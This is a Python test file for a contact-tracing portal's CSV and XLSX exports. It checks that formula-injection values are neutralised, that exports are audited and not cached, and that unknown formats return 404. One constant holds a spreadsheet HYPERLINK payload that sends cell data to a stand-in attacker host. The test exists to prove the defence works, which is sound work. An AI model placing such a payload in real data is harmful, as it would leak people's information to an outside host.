"""Contact exports: CSV and XLSX, neutralised against formulas, audited, never cached."""
import io
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import select

from portal.audit.models import AuditEntry
from portal.extensions import db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def _traced(client, open_case, people, make):
    venue = make.venue(name="+Quán Cơm Tấm")
    start = people.now - timedelta(days=1)
    f0 = people.person("Ca Bệnh", phone="0912 200 000")
    people.visit(f0, venue, start, start + timedelta(minutes=60))
    evil = people.person(EVIL, phone="0912 200 001")
    child = people.dependent(evil, "@Bé Na")
    people.visit(evil, venue, start + timedelta(minutes=5), start + timedelta(minutes=45), dependents=[child])
    case_url = open_case()
    client.post(case_url + "lookup", data={"phone": "0912200000"})
    return case_url


def test_csv_export_is_neutralised_with_the_leads_phone_for_dependents(client, open_case, people, make):
    case_url = _traced(client, open_case, people, make)
    response = client.get(case_url + "contacts.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]  # the charset once
    assert response.headers["Content-Disposition"].startswith('attachment; filename="contacts-F0-2021-0917-003-')
    assert response.headers["Cache-Control"] == "no-store"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff") and "Thời gian trùng (phút)" in text
    lines = text.splitlines()
    assert len(lines) == 3
    assert "\"'=HYPERLINK(" in text and '"=HYPERLINK' not in text
    assert "\"'+Quán Cơm Tấm\"" in text and "\"'@Bé Na\"" in text
    child_row = [line for line in lines if "Bé Na" in line][0]
    assert "0912 200 001" in child_row and '"40"' in child_row


def test_xlsx_export_holds_text_never_formulas(client, open_case, people, make):
    case_url = _traced(client, open_case, people, make)
    response = client.get(case_url + "contacts.xlsx?rule=hour")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert EVIL in values and "@Bé Na" in values and 40 in values  # string cells, no quote shown
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))


def test_every_export_is_audited_with_its_parameters_and_row_count(client, open_case, people, make):
    case_url = _traced(client, open_case, people, make)
    client.get(case_url + "contacts.csv?minutes=30")
    client.get(case_url + "contacts.xlsx?rule=hour")
    entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)).all()
    assert [(e.row_count, "format=csv" in e.query, "minutes=30" in e.query) for e in entries][0] == (2, True, True)
    assert "format=xlsx" in entries[1].query and "rule=hour" in entries[1].query and "minutes" not in entries[1].query


def test_unknown_export_kind_is_404(client, open_case, people, make):
    case_url = _traced(client, open_case, people, make)
    assert client.get(case_url + "contacts.pdf").status_code == 404
